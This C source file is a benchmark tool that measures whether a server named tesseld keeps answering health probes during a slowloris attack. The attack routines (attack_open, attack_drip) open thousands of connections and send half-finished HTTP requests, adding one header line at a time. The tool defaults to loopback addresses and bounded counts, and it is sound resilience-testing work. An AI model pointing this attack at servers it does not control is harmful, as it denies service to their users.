/* slowloris.c - bench-slowloris: does tesseld keep answering other clients while one client
 * holds many slow connections?
 *
 * Two phases, each with the same probes (sequential GET /healthz through libcurl from the
 * probe address, each with a 5 s limit):
 *   baseline  no attack;
 *   attack    the attacker address opens --connections connections, sends half a request on
 *             each and then one more header line per connection every --drip-ms (a slowloris
 *             never finishes its request), while the probes run.
 * Prints, per phase: probes answered within 1 s (count and fraction) and the latency
 * percentiles; and for the attack how many connections the server closed and how many it still
 * held at the end.  Bounded: --connections and --probes are counts, and the attack phase ends
 * after the probes or after --max-seconds, whichever comes first.
 *
 *   bench-slowloris --url 127.0.0.1:PORT [--connections 2000] [--probes 240]
 *                   [--attack-from 127.0.0.2] [--probe-from 127.0.0.1] [--drip-ms 1000]
 *                   [--probe-gap-ms 20] [--max-seconds 120] [--no-baseline]
 *
 * Exit status 0 when it ran (whatever the figures), 1 on a setup error, 2 on a usage error.
 */
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/resource.h>
#include <sys/socket.h>

#include <curl/curl.h>

#define MAX_CONNECTIONS 20000
#define MAX_PROBES      100000
#define ANSWER_MS       1000.0 /* the figure: answered within 1 s */

typedef struct {
    const char *host, *attack_from, *probe_from;
    unsigned port;
    int connections, probes, drip_ms, probe_gap_ms, max_seconds;
    bool baseline;
} opts_t;

static double now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

static size_t discard(char *p, size_t sz, size_t n, void *arg)
{
    (void)p;
    (void)arg;
    return sz * n;
}

/* One probe: latency in ms of a 200 answer, or -1 (no answer, error, other status). */
static double probe_once(const opts_t *o)
{
    CURL *c = curl_easy_init();
    if (!c)
        return -1;
    char url[128];
    snprintf(url, sizeof url, "http://%s:%u/healthz", o->host, o->port);
    curl_easy_setopt(c, CURLOPT_URL, url);
    curl_easy_setopt(c, CURLOPT_INTERFACE, o->probe_from);
    curl_easy_setopt(c, CURLOPT_TIMEOUT_MS, 5000L);
    curl_easy_setopt(c, CURLOPT_NOSIGNAL, 1L);
    curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, discard);
    double t0 = now_ms();
    long code = 0;
    CURLcode rc = curl_easy_perform(c);
    double dt = now_ms() - t0;
    if (rc == CURLE_OK)
        curl_easy_getinfo(c, CURLINFO_RESPONSE_CODE, &code);
    curl_easy_cleanup(c);
    return code == 200 ? dt : -1;
}

typedef struct {
    double *lat; /* probes; -1 = not answered */
    int n;
} probes_t;

static void run_probes(const opts_t *o, probes_t *p, atomic_bool *stop)
{
    p->n = 0;
    double deadline = now_ms() + o->max_seconds * 1e3;
    for (int i = 0; i < o->probes && now_ms() < deadline && !(stop && atomic_load(stop)); i++) {
        p->lat[p->n++] = probe_once(o);
        usleep((useconds_t)o->probe_gap_ms * 1000);
    }
}

static int cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

/* Percentile q (0..1) of the sorted answered latencies; unanswered count as infinite. */
static void fmt_pct(const double *sorted, int n, int answered, double q, char *buf, size_t len)
{
    if (n == 0) {
        snprintf(buf, len, "-");
        return;
    }
    int k = (int)(q * (n - 1) + 0.5);
    if (k >= answered)
        snprintf(buf, len, "none");
    else
        snprintf(buf, len, "%.1f", sorted[k]);
}

static void report(const char *phase, probes_t *p)
{
    double *s = malloc(sizeof(double) * (size_t)(p->n ? p->n : 1));
    int answered = 0, within = 0;
    for (int i = 0; i < p->n; i++)
        if (p->lat[i] >= 0) {
            s[answered++] = p->lat[i];
            within += p->lat[i] <= ANSWER_MS;
        }
    qsort(s, (size_t)answered, sizeof *s, cmp_double);
    char p50[32], p90[32], p99[32], mx[32];
    fmt_pct(s, p->n, answered, 0.50, p50, sizeof p50);
    fmt_pct(s, p->n, answered, 0.90, p90, sizeof p90);
    fmt_pct(s, p->n, answered, 0.99, p99, sizeof p99);
    fmt_pct(s, p->n, answered, 1.0, mx, sizeof mx);
    printf("%-9s %7d %8d %9.2f%%  %8s %8s %8s %8s\n", phase, p->n, within,
           p->n ? 100.0 * within / p->n : 0.0, p50, p90, p99, mx);
    free(s);
}

/* ---- the attacker ---- */

typedef struct {
    int *fd; /* -1: closed by the server (or never connected) */
    int n, opened, failed, refused;
    double *opened_at;
} attack_t;

static const char first_part[] = "GET /healthz HTTP/1.1\r\nHost: x\r\n";

static int attack_open(const opts_t *o, attack_t *a)
{
    struct sockaddr_in src = {.sin_family = AF_INET}, dst = {.sin_family = AF_INET};
    inet_pton(AF_INET, o->attack_from, &src.sin_addr);
    inet_pton(AF_INET, o->host, &dst.sin_addr);
    dst.sin_port = htons((uint16_t)o->port);
    for (int i = 0; i < a->n; i++) {
        a->fd[i] = -1;
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd < 0) {
            perror("bench-slowloris: socket");
            return -1;
        }
        if (bind(fd, (struct sockaddr *)&src, sizeof src) < 0) {
            fprintf(stderr, "bench-slowloris: bind %s: %s\n", o->attack_from, strerror(errno));
            close(fd);
            return -1;
        }
        if (connect(fd, (struct sockaddr *)&dst, sizeof dst) < 0 ||
            send(fd, first_part, sizeof first_part - 1, MSG_NOSIGNAL) < 0) {
            a->failed++;
            close(fd);
            continue;
        }
        fcntl(fd, F_SETFL, O_NONBLOCK);
        a->fd[i] = fd;
        a->opened++;
    }
    return 0;
}

/* Close what the server closed (EOF, reset); count it. */
static void attack_reap(attack_t *a)
{
    for (int i = 0; i < a->n; i++) {
        if (a->fd[i] < 0)
            continue;
        char buf[512];
        ssize_t r = recv(a->fd[i], buf, sizeof buf, 0);
        if (r == 0 || (r < 0 && errno != EAGAIN && errno != EWOULDBLOCK)) {
            close(a->fd[i]);
            a->fd[i] = -1;
            a->refused++;
        }
    }
}

/* One more header line on each connection still open: the request never ends. */
static void attack_drip(attack_t *a, unsigned k)
{
    char line[64];
    int n = snprintf(line, sizeof line, "X-Slow-%u: 1\r\n", k);
    for (int i = 0; i < a->n; i++)
        if (a->fd[i] >= 0 && send(a->fd[i], line, (size_t)n, MSG_NOSIGNAL) < 0 && errno != EAGAIN) {
            close(a->fd[i]);
            a->fd[i] = -1;
            a->refused++;
        }
}

typedef struct {
    const opts_t *o;
    probes_t *p;
    atomic_bool done;
} prober_t;

static void *prober(void *arg)
{
    prober_t *pr = arg;
    run_probes(pr->o, pr->p, NULL);
    atomic_store(&pr->done, true);
    return NULL;
}

static void usage(FILE *f)
{
    fprintf(f, "usage: bench-slowloris --url HOST:PORT [--connections N] [--probes N]\n"
               "         [--attack-from ADDR] [--probe-from ADDR] [--drip-ms MS]\n"
               "         [--probe-gap-ms MS] [--max-seconds S] [--no-baseline]\n");
}

int main(int argc, char **argv)
{
    opts_t o = {.attack_from = "127.0.0.2",
                .probe_from = "127.0.0.1",
                .connections = 2000,
                .probes = 240,
                .drip_ms = 1000,
                .probe_gap_ms = 20,
                .max_seconds = 120,
                .baseline = true};
    static char host[64];
    static const struct option opts[] = {
        {"url", required_argument, NULL, 'u'},
        {"connections", required_argument, NULL, 'c'},
        {"probes", required_argument, NULL, 'p'},
        {"attack-from", required_argument, NULL, 'a'},
        {"probe-from", required_argument, NULL, 'f'},
        {"drip-ms", required_argument, NULL, 'd'},
        {"probe-gap-ms", required_argument, NULL, 'g'},
        {"max-seconds", required_argument, NULL, 's'},
        {"no-baseline", no_argument, NULL, 'B'},
        {"help", no_argument, NULL, 'h'},
        {NULL, 0, NULL, 0},
    };
    int c;
    while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
        switch (c) {
        case 'u': {
            const char *u = optarg;
            if (strncmp(u, "http://", 7) == 0)
                u += 7;
            if (sscanf(u, "%63[0-9.]:%u", host, &o.port) != 2 || o.port == 0 || o.port > 65535) {
                fprintf(stderr, "bench-slowloris: --url %s: expected IPV4:PORT\n", optarg);
                return 2;
            }
            o.host = host;
            break;
        }
        case 'c':
            o.connections = atoi(optarg);
            break;
        case 'p':
            o.probes = atoi(optarg);
            break;
        case 'a':
            o.attack_from = optarg;
            break;
        case 'f':
            o.probe_from = optarg;
            break;
        case 'd':
            o.drip_ms = atoi(optarg);
            break;
        case 'g':
            o.probe_gap_ms = atoi(optarg);
            break;
        case 's':
            o.max_seconds = atoi(optarg);
            break;
        case 'B':
            o.baseline = false;
            break;
        case 'h':
            usage(stdout);
            return 0;
        default:
            usage(stderr);
            return 2;
        }
    }
    struct in_addr tmp;
    if (!o.host || optind < argc || o.connections < 0 || o.connections > MAX_CONNECTIONS ||
        o.probes < 1 || o.probes > MAX_PROBES || o.drip_ms < 10 || o.probe_gap_ms < 0 ||
        o.max_seconds < 1 || inet_pton(AF_INET, o.attack_from, &tmp) != 1 ||
        inet_pton(AF_INET, o.probe_from, &tmp) != 1) {
        usage(stderr);
        return 2;
    }
    /* One descriptor per attacking connection, and some for the probes. */
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)o.connections + 64) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
        getrlimit(RLIMIT_NOFILE, &rl);
        if (rl.rlim_cur < (rlim_t)o.connections + 64) {
            fprintf(stderr, "bench-slowloris: %d connections need %d descriptors (limit %lu)\n",
                    o.connections, o.connections + 64, (unsigned long)rl.rlim_cur);
            return 1;
        }
    }
    curl_global_init(CURL_GLOBAL_DEFAULT);
    probes_t base = {.lat = calloc((size_t)o.probes, sizeof(double))};
    probes_t att = {.lat = calloc((size_t)o.probes, sizeof(double))};
    attack_t a = {.n = o.connections, .fd = calloc((size_t)o.connections + 1, sizeof(int))};
    if (!base.lat || !att.lat || !a.fd) {
        fprintf(stderr, "bench-slowloris: out of memory\n");
        return 1;
    }
    printf("# bench-slowloris: %s:%u, %d slow connections from %s, %d probes from %s "
           "(GET /healthz, one at a time, %d ms apart), drip every %d ms\n",
           o.host, o.port, o.connections, o.attack_from, o.probes, o.probe_from, o.probe_gap_ms,
           o.drip_ms);
    if (o.baseline)
        run_probes(&o, &base, NULL);

    double t0 = now_ms();
    if (attack_open(&o, &a) < 0)
        return 1;
    double opened_ms = now_ms() - t0;
    /* Let the server take (or refuse) them all, then probe while dripping. */
    double settle = now_ms() + 1000;
    unsigned k = 0;
    while (now_ms() < settle) {
        attack_reap(&a);
        usleep(50 * 1000);
    }
    int refused_at_once = a.refused;
    prober_t pr = {.o = &o, .p = &att};
    pthread_t th;
    pthread_create(&th, NULL, prober, &pr);
    double deadline = t0 + o.max_seconds * 1e3, next = now_ms() + o.drip_ms;
    while (!atomic_load(&pr.done) && now_ms() < deadline) {
        usleep(20 * 1000);
        attack_reap(&a);
        if (now_ms() >= next) {
            attack_drip(&a, k++);
            next += o.drip_ms;
        }
    }
    pthread_join(th, NULL);
    attack_reap(&a);
    int held = 0;
    for (int i = 0; i < a.n; i++)
        if (a.fd[i] >= 0) {
            held++;
            close(a.fd[i]);
        }

    printf("# attack: %d connections opened in %.0f ms (%d failed to connect); %d closed by "
           "the server within 1 s, %d closed by it in all, %d still held at the end\n",
           a.opened, opened_ms, a.failed, refused_at_once, a.refused, held);
    printf("%-9s %7s %8s %10s  %8s %8s %8s %8s\n", "phase", "probes", "<=1s", "answered", "p50_ms",
           "p90_ms", "p99_ms", "max_ms");
    if (o.baseline)
        report("baseline", &base);
    report("attack", &att);
    int answered = 0;
    for (int i = 0; i < att.n; i++)
        answered += att.lat[i] >= 0;
    printf("attack_opened=%d attack_refused_at_once=%d attack_refused=%d attack_held=%d "
           "probes=%d probes_answered=%d\n",
           a.opened, refused_at_once, a.refused, held, att.n, answered);
    free(base.lat);
    free(att.lat);
    free(a.fd);
    curl_global_cleanup();
    return 0;
}
